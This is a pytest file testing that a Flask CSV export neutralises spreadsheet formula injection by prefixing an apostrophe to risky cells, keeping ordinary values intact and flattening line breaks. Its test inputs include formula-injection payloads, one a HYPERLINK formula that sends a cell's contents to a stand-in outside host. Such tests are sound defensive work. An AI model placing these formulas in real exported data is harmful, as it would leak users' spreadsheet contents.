from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from assessor.web.csvfile import csv_response


def read_back(app: Flask, *cells: str | float | None) -> list[str]:
    with app.test_request_context():
        answer = csv_response("people.csv", [["heading"], list(cells)])
    assert answer.headers["Content-Disposition"] == "attachment; filename=people.csv"
    assert answer.mimetype == "text/csv"
    [_heading, row] = csv.reader(io.StringIO(answer.get_data(as_text=True), newline=""))
    return row


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://x.example?"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"]
)
def test_text_that_a_spreadsheet_would_compute_is_led_by_an_apostrophe(app: Flask, text: str) -> None:
    [cell] = read_back(app, text)
    assert cell.startswith("'")
    assert "=" not in cell[:1]


def test_numbers_and_names_stay_what_they_are(app: Flask) -> None:
    assert read_back(app, -1.5, 3, None, "Ada, Countess", 'say "yes"', "Zoë") == [
        "-1.5",
        "3",
        "",
        "Ada, Countess",
        'say "yes"',
        "Zoë",
    ]


def test_a_line_break_begins_no_row(app: Flask) -> None:
    assert read_back(app, "one\r\n=two\nthree") == ["one =two three"]
